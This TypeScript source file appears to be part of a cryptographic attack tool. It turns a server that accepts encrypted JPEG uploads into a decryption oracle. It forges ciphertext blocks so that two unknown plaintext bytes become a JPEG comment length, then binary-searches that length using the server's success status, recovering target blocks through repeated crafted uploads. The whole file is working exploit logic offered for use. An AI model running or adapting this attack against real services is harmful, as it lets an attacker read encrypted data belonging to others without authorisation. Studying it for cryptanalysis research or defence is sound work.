import type { Ask } from "./ask.js";
import type { DecryptBlock } from "./block-oracle.js";
import { blockBytes, forge, xor, type KnownBlock } from "./known-block.js";
import { opening, picture, viewOf } from "./probe-picture.js";

/**
 * Decrypts blocks with a server whose answers are all encrypted: the status shows whether an upload was a picture. Two
 * bytes of the target become the length of a comment, and so determine where libjpeg looks for the next marker: before a
 * marker that no JPEG has, or after it. Each upload halves the set of values that the two bytes may have.
 */
export interface StatusOracleOptions {
  ask: Ask;
  known: KnownBlock;
  /**
   * The captured block behind the known one. There it decrypts to what it does in the captured picture: to a small entry of
   * the quantization table first, which behind FF is a reserved marker.
   */
  next: Buffer;
}

const mostFillers = 16;
/** COM (T.81, B.2.4.5). A length of two bytes follows, which counts itself. */
const comment = Buffer.from("fffe", "hex");
/** Reserved (T.81, table B.1): libjpeg ends with an error. */
const reservedMarker = Buffer.from("ff02", "hex");
/** A shorter comment ends before the first place for that marker. The first pair's is in 1 block of 1,024. */
const shortest = 64;
const longest = 0xffff;

/** @returns undefined if the server's statuses do not reveal the known block */
export async function findStatusOracle(
  options: StatusOracleOptions,
): Promise<DecryptBlock | undefined> {
  const { ciphertext, decrypted } = options.known;
  for (let filler = 0; filler < mostFillers; filler += 1) {
    const decrypt: DecryptBlock = (target) => decryptByStatus(options, target, filler);
    if ((await decrypt(ciphertext))?.equals(decrypted) === true) return decrypt;
  }
  return undefined;
}

/** Decrypts one block by 128 uploads of up to 64 KB. */
async function decryptByStatus(
  options: StatusOracleOptions,
  target: Buffer,
  filler: number,
): Promise<Buffer | undefined> {
  let decrypted = Buffer.alloc(0);
  while (decrypted.length < blockBytes) {
    const pair =
      (await decryptPair(options, target, decrypted, filler, 0x80)) ??
      (await decryptPair(options, target, decrypted, filler, 0));
    if (pair === undefined) return undefined;
    decrypted = Buffer.concat([decrypted, pair]);
  }
  return decrypted;
}

/**
 * @param decrypted the target's decryption up to the pair
 * @param mask XORed to each pair except the first; another mask is tried if the comment was too short
 */
async function decryptPair(
  options: StatusOracleOptions,
  target: Buffer,
  decrypted: Buffer,
  filler: number,
  mask: number,
): Promise<Buffer | undefined> {
  const { ask, known } = options;
  const front = frontOf(known, decrypted, filler, mask);
  const start = Buffer.concat([opening(known), front, target]);
  const lengthAt = start.length - blockBytes + decrypted.length;
  const length = await findLength(lengthAt, async (markerAt, end) => {
    const file = withMarker(options, start, markerAt, end, filler);
    return (await ask("probe.jpg.encrypted", file)).status === 200;
  });
  const previous = front.subarray(decrypted.length - blockBytes);
  return length && xor(length, previous);
}

/**
 * @param lengthAt offset of the comment's length in the file
 * @param endsBehind asks whether the comment ends behind a marker, in a file with room for comments that end before `end`
 */
async function findLength(
  lengthAt: number,
  endsBehind: (markerAt: number, end: number) => Promise<boolean>,
): Promise<Buffer | undefined> {
  let [low, high] = [shortest, longest + 1];
  while (high - low > 1) {
    const middle = (low + high) >> 1;
    if (await endsBehind(lengthAt + middle - 1, lengthAt + high)) low = middle;
    else high = middle;
  }
  if (low === shortest) return undefined;
  const length = Buffer.alloc(2);
  length.writeUInt16BE(low);
  return length;
}

/**
 * What precedes the target, so that its first unknown bytes are a comment's length: a comment's marker. Where two bytes
 * or more are known, the block in front of the target turns the last two into that marker, and another comment covers
 * all up to there.
 */
function frontOf(known: KnownBlock, decrypted: Buffer, filler: number, mask: number): Buffer {
  if (decrypted.length === 0) return forge(known, endingWith(comment, filler));
  const markerAt = decrypted.length - comment.length;
  const cover = Buffer.from([...comment, 0, 2 + blockBytes + markerAt]);
  const previous = Buffer.alloc(blockBytes, mask);
  xor(comment, decrypted.subarray(markerAt)).copy(previous, markerAt);
  return Buffer.concat([forge(known, endingWith(cover, filler)), previous]);
}

/** Builds the file: its start with the target, the reserved marker, and a picture after `end`. */
function withMarker(
  { known, next }: StatusOracleOptions,
  start: Buffer,
  markerAt: number,
  end: number,
  filler: number,
): Buffer {
  const { ciphertext } = known;
  const offset = markerAt % blockBytes;
  const marker = Buffer.alloc(blockBytes, filler);
  reservedMarker.copy(marker, offset);
  const cut = offset === blockBytes - 1 ? next : Buffer.alloc(0);
  const forged = Buffer.concat([forge(known, marker), cut]);
  const file = Buffer.alloc(Math.ceil((end + blockBytes) / blockBytes) * blockBytes, ciphertext);
  start.copy(file);
  forged.copy(file, markerAt - offset - blockBytes);
  return Buffer.concat([file, picture(known, ciphertext, viewOf(0), filler)]);
}

function endingWith(bytes: Buffer, filler: number): Buffer {
  return Buffer.concat([Buffer.alloc(blockBytes - bytes.length, filler), bytes]);
}
